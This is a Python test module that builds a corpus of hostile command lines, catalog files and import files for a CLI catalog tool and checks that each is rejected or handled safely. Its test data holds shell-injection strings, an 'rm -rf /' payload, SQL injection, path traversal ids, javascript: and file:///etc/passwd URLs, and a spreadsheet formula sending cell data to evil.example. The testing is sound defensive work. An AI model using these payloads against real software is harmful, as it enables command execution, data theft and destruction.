"""The hostile corpus: inputs a careless script or a malicious file could hand htcat.

Each case is a real command line (arguments may be bytes that are not UTF-8),
with files it reads and the exit statuses that count as handling it: 0 when
htcat does the right thing with it, 2 (bad input) or 3 (an unusable catalog)
with a message naming the problem. No case may ever end in a traceback.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import random
import re
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from .harness import Ran, dump_catalog, entries_of, run, synthetic_entries

MB = 1024 * 1024
CONTROL = "\x1b[2J\x07\x08"
SHELL = "$(touch /tmp/htcat-pwned);`id`|&;<>*?"
HOSTILE_URLS = {
    "javascript": "javascript:alert(document.cookie)",
    "file": "file:///etc/passwd",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "ftp": "ftp://127.0.0.1/file.pdf",
    "vbscript": "vbscript:msgbox(1)",
    "credentials": "https://user:secret@127.0.0.1/report.pdf",
    "user only": "https://user@127.0.0.1/report.pdf",
    "no host": "http:///report.pdf",
    "relative": "/reports/report.pdf",
    "bad port": "http://127.0.0.1:99999/report.pdf",
    "broken ipv6": "http://[::1/report.pdf",
    "space": "http://127.0.0.1/a report.pdf",
    "newline": "http://127.0.0.1/a\nb.pdf",
}
ACCEPTED_URLS = {
    "idn": "https://bücher.example/bericht.pdf",
    "punycode": "https://xn--bcher-kva.example/bericht.pdf",
    "upper-case scheme": "HTTPS://EXAMPLE.ORG/REPORT.PDF",
    "long query": "https://example.org/r.pdf?" + "a=1&" * 2000,
    "ipv6": "http://[::1]:8080/r.pdf",
}
QUERIES = (
    '"unbalanced',
    '"',
    '"""',
    "'",
    "\\",
    "*",
    "NEAR(labor trafficking)",
    "labor OR health",
    "title:labor",
    "-labor",
    "(labor",
    "' OR 1=1 --",
    SHELL,
    "trafficking " * 500,
)
STDIN_TOO = (
    "ten-mb-line.jsonl",
    "invalid-utf8.jsonl",
    "nested-100k.jsonl",
    "formula.csv",
    "nested-in-a-check.jsonl",
    "url-javascript.jsonl",
)
STDIN_REAL = ("ten-mb-line.jsonl", "invalid-utf8.jsonl")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _deep(depth: int) -> Any:
    value: Any = "bottom"
    for _ in range(depth):
        value = [value]
    return value


def csv_bytes(*rows: list[str]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode()


def jsonl(*rows: dict[str, Any]) -> bytes:
    return b"".join(json.dumps(r, ensure_ascii=False).encode() + b"\n" for r in rows)


@dataclass(frozen=True)
class Case:
    """One hostile input: the command, the files it reads, and the statuses that handle it.

    ``{dir}`` in an argument is the case's own folder. ``catalog`` replaces the
    catalog file's bytes (a hand-edited or hostile catalog). ``check`` looks at
    the catalog afterwards and returns what is wrong, if anything.
    """

    name: str
    args: tuple[str | bytes, ...]
    codes: frozenset[int]
    says: str = ""
    files: dict[str, bytes] = field(default_factory=dict)
    stdin: bytes = b""
    catalog: bytes | None = None
    env: dict[str, str] = field(default_factory=dict)
    check: Callable[[Path, Ran], str | None] | None = None
    changes_catalog: bool = False
    real: bool = True
    """Also run through the installed console script (every case runs in-process)."""


OK, BAD, CORRUPT = frozenset({0}), frozenset({2}), frozenset({3})


def _unchanged_unless_ok(db: Path, ran: Ran, before: bytes) -> str | None:
    if ran.code != 0 and db.read_bytes() != before:
        return f"exit {ran.code} but the catalog changed"
    return None


def _has_title(title: str) -> Callable[[Path, Ran], str | None]:
    def check(db: Path, ran: Ran) -> str | None:
        titles = {e["title"] for e in entries_of(db).values()}
        return None if title in titles else f"{title[:40]!r} not in the catalog"

    return check


def _has_tag(tag: str) -> Callable[[Path, Ran], str | None]:
    def check(db: Path, ran: Ran) -> str | None:
        tags = {t for e in entries_of(db).values() for t in e["tags"]}
        return None if tag in tags else f"tag {tag!r} not stored"

    return check


def _nothing_outside(folder: Path) -> Callable[[Path, Ran], str | None]:
    def check(db: Path, ran: Ran) -> str | None:
        pwned = Path("/tmp/htcat-pwned")
        if pwned.exists():
            pwned.unlink()
            return "a shell ran a metacharacter"
        return None

    return check


def argument_cases() -> Iterator[Case]:
    """Hostile values given on the command line."""
    yield Case(
        "title with terminal escapes",
        ("add", "--title", f"Red {CONTROL}"),
        BAD,
        "control characters",
    )
    yield Case("title of 501 characters", ("add", "--title", "x" * 501), BAD, "longer than 500")
    yield Case(
        "summary of 100 KB",
        ("add", "--title", "Long summary", "--summary", "s" * 100_000),
        OK,
        check=_has_title("Long summary"),
        changes_catalog=True,
    )
    yield Case("title not UTF-8", ("add", "--title", b"Bad \xff\xfe bytes"), BAD, "UTF-8")
    yield Case("summary not UTF-8", ("add", "--title", "T", "--summary", b"\xc3("), BAD, "UTF-8")
    yield Case("tag not UTF-8", ("add", "--title", "T", "--tag", b"\xff"), BAD, "UTF-8")
    yield Case("edit set not UTF-8", ("edit", "entry-1", "--set", b"publisher=\xe9"), BAD, "UTF-8")
    yield Case("tag command not UTF-8", ("tag", "entry-1", "--add", b"caf\xe9"), BAD, "UTF-8")
    yield Case("tags rename to not UTF-8", ("tags", "rename", "labor", b"\xff"), BAD, "UTF-8")
    yield Case("search not UTF-8", ("search", b"\xff\xfe labor"), OK)
    yield Case("list --tag not UTF-8", ("list", "--tag", b"\xff"), BAD, "UTF-8")
    yield Case(
        "list --tag not UTF-8 (index)",
        ("list", "--tag", b"\xff"),
        BAD,
        "UTF-8",
        env={"HTCAT_INDEX_MIN_BYTES": "0"},
    )
    yield Case("show id not UTF-8", ("show", b"entry-\xff"), BAD, "no entry")
    yield Case(
        "show id not UTF-8 (index)",
        ("show", b"entry-\xff"),
        BAD,
        "no entry",
        env={"HTCAT_INDEX_MIN_BYTES": "0"},
    )
    for name, url in HOSTILE_URLS.items():
        yield Case(
            f"link {name}", ("add", "--title", "Hostile link", "--link", url), BAD, "links.url"
        )
        if name in ("javascript", "file", "credentials"):
            yield Case(
                f"edit add-link {name}", ("edit", "entry-1", "--add-link", url), BAD, "links.url"
            )
    for name, url in ACCEPTED_URLS.items():
        yield Case(
            f"link {name}",
            ("add", "--title", f"Link {name}", "--link", url),
            OK,
            check=_has_title(f"Link {name}"),
            changes_catalog=True,
        )
    yield Case(
        "link with too many parts",
        ("add", "--title", "T", "--link", "a|b|c|d"),
        BAD,
        "LABEL|URL|KIND",
    )
    yield Case(
        "person with too many parts",
        ("add", "--title", "T", "--person", "a|b|c|d"),
        BAD,
        "NAME|ROLE|AFFILIATION",
    )
    yield Case(
        "person with unknown role",
        ("add", "--title", "T", "--person", "A|hacker"),
        BAD,
        "people.role",
    )
    for tag in (
        "a/b/c",
        "../../etc",
        SHELL,
        "tag;with;semicolons",
        "back\\slash",
        "  Spaced  Out ",
    ):
        yield Case(
            f"tag {tag[:24]!r}",
            ("add", "--title", f"Tagged {tag[:10]}", "--tag", tag),
            OK,
            check=_has_tag(tag.strip().lower().replace("  ", " ").replace(" ", "-")),
            changes_catalog=True,
        )
    yield Case(
        "tag command shell metacharacters",
        ("tag", "--all", "--add", SHELL),
        OK,
        check=_nothing_outside(Path("/tmp")),
        changes_catalog=True,
    )
    for ident in ("../../etc", "/etc/passwd", "%s%n", "entry-*", "-", ""):
        yield Case(f"show {ident!r}", ("show", "--", ident), BAD, "entry")
    for ident in ("../../etc", "-", ""):
        yield Case(f"edit {ident!r}", ("edit", "--set", "title=x", "--", ident), BAD, "entry")
        yield Case(f"remove {ident!r}", ("remove", "--yes", "--", ident), BAD, "entry")
    for field_value in (
        "id=../../etc",
        "created=now",
        "title=",
        "nofield=1",
        "type=malware",
        "date=2021-02-30",
        "date=99999",
        "status=deleted",
        "links=javascript:alert(1)",
        "people=a|b|c|d",
    ):
        yield Case(f"edit --set {field_value}", ("edit", "entry-1", "--set", field_value), BAD)
    for query in QUERIES:
        for index in ("0", "1000000000"):
            yield Case(
                f"search {query[:30]!r} index={index == '0'}",
                ("search", "--", query),
                OK,
                env={"HTCAT_INDEX_MIN_BYTES": index},
                real=index == "0",
            )
    yield Case("list --since 2021-13", ("list", "--since", "2021-13"), frozenset({0, 2}))
    for option, value in (
        ("--since", "abcd"),
        ("--until", "99999"),
        ("--sort", "date; DROP TABLE entries"),
        ("--type", "malware"),
        ("--status", "deleted"),
        ("--link-status", "pwned"),
        ("--limit", "-1"),
        ("--offset", "-5"),
        ("--tablefmt", "../../x"),
        ("--format", "exe"),
    ):
        yield Case(f"list {option} {value}", ("list", option, value), BAD)
    for option in ("--limit", "--offset"):
        for index in ("0", "1000000000"):
            yield Case(
                f"list {option} beyond 64 bits index={index == '0'}",
                ("list", option, "9" * 30),
                OK,
                env={"HTCAT_INDEX_MIN_BYTES": index},
            )
    yield Case("tags rename from nothing", ("tags", "rename", "", "x"), BAD)
    yield Case("tags rename to nothing", ("tags", "rename", "labor", "   "), BAD)


UNPARSABLE = 10
REAL_SHAPE_RUNS = (
    (("list",), "0"),
    (("list", "--link-status", "broken"), "1000000000"),
    (("add", "--title", "Added"), "1000000000"),
)


def catalog_cases() -> Iterator[Case]:
    """Catalog files that are broken, hostile or not catalogs at all: read and write."""
    broken: dict[str, bytes] = {
        "empty file": b"",
        "not json": b"{ this is not json",
        "binary": bytes(range(256)) * 10,
        "invalid UTF-8": b'{"_meta": {"1": {"schema": 1}}, "entries": {"1": {"id": "\xff"}}}',
        "a list": b"[]",
        "deeply nested": b"[" * 100_000 + b"]" * 100_000,
        "entries not a table": b'{"_meta": {"1": {"schema": 1}}, "entries": []}',
        "newer schema": b'{"_meta": {"1": {"schema": 99}}, "entries": {}}',
        "schema not a number": b'{"_meta": {"1": {"schema": "1; rm -rf /"}}, "entries": {}}',
        "entry not an object": b'{"_meta": {"1": {"schema": 1}}, "entries": {"1": "x"}}',
        # the ones above are refused as a whole file; the ones below hold one bad entry
        "links a string": dump_catalog([{"id": "a", "title": "A", "links": "http://x"}]),
        "tags a number": dump_catalog([{"id": "a", "title": "A", "tags": 7}]),
        "title a list": dump_catalog([{"id": "a", "title": ["A"]}]),
        "check a string": dump_catalog(
            [{"id": "a", "title": "A", "links": [{"url": "http://x", "check": "ok"}]}]
        ),
        "check outcome a list": dump_catalog(
            [{"id": "a", "title": "A", "links": [{"url": "http://x", "check": {"outcome": [1]}}]}]
        ),
        "10 MB title": dump_catalog([{"id": "a", "title": "t" * (10 * MB)}]),
    }
    reads = (("list",), ("list", "--link-status", "broken"), ("show", "a"))
    others = (("tags",), ("doctor",), ("add", "--title", "Added"), ("export", "--format", "csv"))
    for n, (name, raw) in enumerate(broken.items()):
        unparsable = n < UNPARSABLE
        runs = [(args, i) for args in reads for i in ("0", "1000000000")] + [
            (args, "1000000000") for args in others
        ]
        if unparsable:
            runs = [(("list",), "0"), (("add", "--title", "Added"), "1000000000")]
        elif name == "10 MB title":
            runs = [(("list",), "0"), *((args, "1000000000") for args in (*reads, *others))]
        for args, index in runs:
            yield Case(
                f"catalog {name}: {' '.join(args)} index={index == '0'}",
                args,
                CORRUPT if unparsable else frozenset({0, 1, 2, 3}),
                catalog=raw,
                env={"HTCAT_INDEX_MIN_BYTES": index},
                changes_catalog=args[0] == "add",
                real=unparsable or (args, index) in REAL_SHAPE_RUNS,
            )
    yield Case("catalog is a folder", ("--db", "{dir}", "list"), CORRUPT, "folder")
    yield Case("catalog is /dev/null", ("--db", "/dev/null", "add", "--title", "x"), CORRUPT)
    yield Case(
        "catalog path not UTF-8", ("--db", b"{dir}/\xff.json", "list"), CORRUPT, "htcat init"
    )


def import_cases() -> Iterator[Case]:
    """Import files that are huge, broken, nested, hostile or not text."""
    ten_mb = "x" * (10 * MB)
    files: dict[str, tuple[bytes, frozenset[int], str]] = {
        "rows.jsonl": (jsonl({"title": "Fine row"}), OK, ""),
        "huge-summary.jsonl": (
            jsonl({"title": "Huge", "summary": "s" * (2 * MB)}),
            BAD,
            "longer than",
        ),
        "ten-mb-line.jsonl": (jsonl({"title": ten_mb}), BAD, "title"),
        "ten-mb-line-no-newline.jsonl": (json.dumps({"title": ten_mb}).encode(), BAD, "title"),
        "ten-mb-cell.csv": (b"title,summary\nBig," + ten_mb.encode() + b"\n", BAD, "line"),
        "ten-mb-unquoted-line.csv": (b"title\n" + ten_mb.encode(), BAD, "line"),
        "ten-mb-array.json": (
            json.dumps([{"title": "t", "notes": ten_mb}]).encode(),
            BAD,
            "longer than",
        ),
        "control-chars.jsonl": (jsonl({"title": f"Bell {CONTROL}"}), BAD, "control characters"),
        "control-chars.csv": (f"title\nBell {CONTROL}\n".encode(), BAD, "control characters"),
        "nul-byte.csv": (b"title\nNul\x00byte\n", BAD, "NUL"),
        "latin-1.csv": ("title\nCaf\xe9\n".encode("latin-1"), BAD, "UTF-8"),
        "utf-16.csv": ("title\nUTF sixteen\n".encode("utf-16"), BAD, "UTF-8"),
        "invalid-utf8.jsonl": (b'{"title": "ok"}\n{"title": "\xff\xfe"}\n', BAD, "line 2"),
        "lone-surrogate-escape.jsonl": (b'{"title": "\\ud800"}\n', BAD, "line 1"),
        "nested-100k.json": (b"[" * 100_000 + b"]" * 100_000, BAD, "line 1"),
        "nested-100k.jsonl": (b"[" * 100_000 + b"]" * 100_000 + b"\n", BAD, "line 1"),
        "nested-in-a-link.jsonl": (jsonl({"title": "T", "links": _deep(500)}), BAD, "links"),
        "nested-in-a-check.jsonl": (
            jsonl(
                {"title": "T", "links": [{"url": "https://e.org/a", "check": {"x": _deep(300)}}]}
            ),
            BAD,
            "nested",
        ),
        "big-int.jsonl": (b'{"title": "T", "date": 1' + b"0" * 400 + b"}\n", BAD, "line 1"),
        "nan.jsonl": (b'{"title": NaN}\n', BAD, "line 1"),
        "not-objects.json": (b'[1, "two", null, [3]]', BAD, "entry 1"),
        "unbalanced-quote.csv": (b'title,summary\n"Open quote,never closed\n', BAD, "quote"),
        "ragged.csv": (b"title,summary\nOne,two,three\n", BAD, "columns"),
        "empty.csv": (b"", BAD, "empty"),
        "header-only.csv": (b"title,summary\n", OK, ""),
        "formula.csv": (csv_bytes(["title", "summary"], [FORMULA, "+1+2"]), OK, ""),
        "id-traversal.jsonl": (jsonl({"id": "../../etc", "title": "T"}), BAD, "id"),
        "id-absolute.jsonl": (jsonl({"id": "/etc/passwd", "title": "T"}), BAD, "id"),
        "id-unicode.jsonl": (jsonl({"id": "éntry", "title": "T"}), BAD, "id"),
        "shell-tags.csv": (csv_bytes(["title", "tags"], ["Shell", f"{SHELL};a/b"]), OK, ""),
        "stamps-forged.jsonl": (jsonl({"title": "T", "created": "yesterday"}), BAD, "created"),
        "type-wrong.jsonl": (jsonl({"title": "T", "tags": "not a list", "people": 3}), BAD, "tags"),
        "unknown-field.jsonl": (
            jsonl({"title": "T", "__proto__": {"admin": True}}),
            BAD,
            "unknown",
        ),
        "check-outcome-list.jsonl": (
            jsonl(
                {"title": "T", "links": [{"url": "https://e.org/a", "check": {"outcome": ["x"]}}]}
            ),
            BAD,
            "outcome",
        ),
    }
    for name, url in HOSTILE_URLS.items():
        files[f"url-{name}.jsonl"] = (jsonl({"title": "T", "links": [url]}), BAD, "links.url")
        if name in ("javascript", "file", "data", "credentials"):
            files[f"url-{name}.csv"] = (csv_bytes(["title", "links"], ["T", url]), BAD, "links.url")
    files["url-idn.jsonl"] = (jsonl({"title": "IDN", "links": [ACCEPTED_URLS["idn"]]}), OK, "")
    for name, (data, codes, says) in files.items():
        fmt = name.rsplit(".", 1)[1]
        yield Case(
            f"import {name}",
            ("import", f"{{dir}}/{name}"),
            codes,
            says,
            files={name: data},
            changes_catalog=codes == OK,
        )
        if name in STDIN_TOO:
            yield Case(
                f"import - < {name}",
                ("import", "-", "--format", fmt),
                codes,
                says,
                stdin=data,
                real=name in STDIN_REAL,
                changes_catalog=codes == OK,
            )
    yield Case(
        "import deep unknown field kept",
        ("import", "{dir}/deep.jsonl", "--keep-unknown"),
        BAD,
        "nested",
        files={"deep.jsonl": jsonl({"title": "T", "extra": _deep(400)})},
    )
    yield Case("import a folder", ("import", "{dir}", "--format", "csv"), BAD, "folder")
    yield Case("import a missing file", ("import", "{dir}/missing.csv"), BAD, "no such file")
    yield Case("import /dev/null as csv", ("import", "/dev/null", "--format", "csv"), BAD)
    yield Case(
        "import unknown format",
        ("import", "{dir}/x.exe"),
        BAD,
        "format",
        files={"x.exe": b"MZ\x90\x00"},
    )


def export_cases() -> Iterator[Case]:
    """Exports to places that cannot take them."""
    yield Case(
        "export to a missing folder", ("export", "-o", "{dir}/no/such/out.csv"), frozenset({2, 3})
    )
    yield Case("export to a folder", ("export", "-o", "{dir}"), frozenset({2, 3}))
    yield Case("export unknown format", ("export", "--format", "exe"), BAD)
    yield Case("export --limit beyond 64 bits", ("export", "--limit", "9" * 30), OK)


REAL = re.compile(
    "|".join(
        (
            r"not UTF-8",
            r"^link (javascript|file|data|credentials|broken ipv6|idn|ipv6)$",
            r"^edit add-link javascript$",
            r"^link with too many parts$",
            r"^tag '(\$|\.\./)",
            r"^tag command shell",
            r"^(show|edit|remove) '\.\./\.\./etc'$",
            r"^show '%s%n'$",
            r"^edit --set (id=|links=|date=2021-02-30)",
            r"""^search '("unbalanced|NEAR|' OR|\\\\|\$\(touch).* index=True$""",
            r"^list --(since abcd|sort|limit -1|tablefmt)",
            r"^list --(limit|offset) beyond 64 bits index=True$",
            r"^tags rename from nothing$",
            r"^(title with terminal escapes|summary of 100 KB)$",
            r"^catalog [^:]+: (list index=True|add --title Added index=False)$",
            r"^catalog (is|path) ",
            r"^import (ten-mb|control-chars.jsonl|nul-byte|latin-1|utf-16|invalid-utf8.jsonl|nested"
            r"|big-int|nan|unbalanced|id-traversal|shell-tags|formula|check-outcome"
            r"|url-(javascript|credentials|idn)|deep unknown|a folder|a missing)",
            r"^import - < (ten-mb-line.jsonl|invalid-utf8.jsonl)$",
            r"^export (to a folder|--limit)",
        )
    )
)
"""The cases that also run through the installed script: every kind of input, once."""


def all_cases() -> list[Case]:
    cases = [*argument_cases(), *catalog_cases(), *import_cases(), *export_cases()]
    return [dataclasses.replace(c, real=bool(REAL.search(c.name))) for c in cases]


@dataclass(frozen=True)
class Outcome:
    case: Case
    ran: Ran
    problem: str | None


def _expand(arg: str | bytes, folder: Path) -> str | bytes:
    if isinstance(arg, bytes):
        return arg.replace(b"{dir}", str(folder).encode())
    return arg.replace("{dir}", str(folder))


def _lay_out(case: Case, folder: Path, catalog: bytes) -> tuple[Path, list[str | bytes]]:
    folder.mkdir(parents=True)
    db = folder / "catalog.json"
    db.write_bytes(case.catalog if case.catalog is not None else catalog)
    for name, data in case.files.items():
        (folder / name).write_bytes(data)
    return db, [_expand(a, folder) for a in case.args]


def _judge(case: Case, db: Path, before: bytes, ran: Ran) -> str | None:
    if "Traceback" in ran.err:
        return "a traceback reached the user"
    if ran.code not in case.codes:
        return f"exit {ran.code}, expected {sorted(case.codes)}"
    if ran.code != 0 and not ran.err.strip():
        return f"exit {ran.code} with no message"
    if case.says and case.says not in ran.err:
        return f"the message does not say {case.says!r}"
    if ran.code in (2, 3) and db.read_bytes() != before:
        return f"exit {ran.code}, yet the catalog changed"
    if ran.code == 0 and not case.changes_catalog and db.read_bytes() != before:
        return "the catalog changed"
    if ran.code == 0 and case.check is not None:
        return case.check(db, ran)
    return None


def run_case(case: Case, folder: Path, catalog: bytes) -> Outcome:
    """Run ``case`` through the installed console script, as a user would."""
    db, args = _lay_out(case, folder, catalog)
    before = db.read_bytes()
    ran = run(db, *args, input=case.stdin, env=case.env, timeout=120)  # type: ignore[arg-type]
    return Outcome(case, ran, _judge(case, db, before, ran))


def run_case_in_process(case: Case, folder: Path, catalog: bytes) -> Outcome:
    """Run ``case`` through the Typer app in this process: the same code, no interpreter start.

    Arguments that are bytes are decoded as the interpreter decodes ``argv``;
    an exception that escapes the app counts as a traceback.
    """
    from typer.testing import CliRunner

    from htcat.cli.app import app

    db, args = _lay_out(case, folder, catalog)
    before = db.read_bytes()
    argv = ["--db", str(db), *(os.fsdecode(a) for a in args)]
    saved = {k: os.environ.get(k) for k in case.env}
    os.environ.update(case.env)
    try:
        result = CliRunner().invoke(app, argv, input=case.stdin, prog_name="htcat")
    finally:
        for key, value in saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
    err = result.stderr
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        err += f"\nTraceback (in-process): {result.exception!r}"
    ran = Ran(tuple(argv), result.exit_code, result.stdout, err, 0.0)
    return Outcome(case, ran, _judge(case, db, before, ran))


def base_catalog() -> bytes:
    entries = synthetic_entries(30, random.Random(11))
    entries[0]["tags"] = ["labor"]
    return dump_catalog(entries)


def run_corpus(folder: Path, cases: list[Case], workers: int = 4) -> list[Outcome]:
    """Run each case on its own copy of a small catalog, ``workers`` processes at a time."""
    catalog = base_catalog()
    with ThreadPoolExecutor(workers) as pool:
        return list(
            pool.map(lambda n: run_case(cases[n], folder / f"case-{n}", catalog), range(len(cases)))
        )


def run_corpus_in_process(folder: Path, cases: list[Case]) -> list[Outcome]:
    catalog = base_catalog()
    return [run_case_in_process(c, folder / f"case-{n}", catalog) for n, c in enumerate(cases)]
